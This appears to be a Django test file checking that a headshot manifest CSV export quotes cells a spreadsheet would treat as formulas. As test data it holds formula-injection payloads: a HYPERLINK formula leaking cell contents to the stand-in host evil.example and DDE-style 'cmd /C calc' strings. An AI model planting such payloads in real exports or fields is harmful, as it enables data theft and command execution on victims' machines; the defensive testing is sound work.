"""The approved-headshots manifest never hands a spreadsheet a formula typed by a member."""

from __future__ import annotations

import csv
import io
import zipfile

from django.urls import reverse

from accounts.models import User
from accounts.teams import spreadsheet_cell
from accounts.tests.conftest import verified_client
from accounts.tests.test_teams import approved_submission


def manifest_rows(team) -> list[dict[str, str]]:
    response = verified_client(team.admin).get(reverse("accounts:org_export", args=[team.organisation.slug]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))


def test_it_quotes_cells_a_spreadsheet_would_run(team):
    User.objects.filter(pk=team.member.pk).update(
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="", email="+1@example.com"
    )
    approved_submission(team)

    (row,) = manifest_rows(team)

    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["email"] == "'+1@example.com"


def test_it_quotes_every_formula_start(team):
    approved_submission(team)
    for start in ("=", "+", "-", "@"):
        User.objects.filter(pk=team.member.pk).update(first_name=f"{start}cmd|' /C calc'!A0", last_name="")

        (row,) = manifest_rows(team)

        assert row["name"] == f"'{start}cmd|' /C calc'!A0"


def test_it_quotes_a_leading_tab_or_carriage_return():
    # Names reach the manifest stripped; the cell guard still covers what a spreadsheet reads.
    assert spreadsheet_cell("\t=1+1") == "'\t=1+1"
    assert spreadsheet_cell("\r=1+1") == "'\r=1+1"
    assert spreadsheet_cell("Mia = 1") == "Mia = 1"


def test_it_leaves_ordinary_cells_as_they_are(team):
    approved_submission(team)

    (row,) = manifest_rows(team)

    assert row["name"] == "Mia"
    assert row["email"] == team.member.email
    assert not row["file"].startswith("'")
    assert not row["approved_at"].startswith("'")
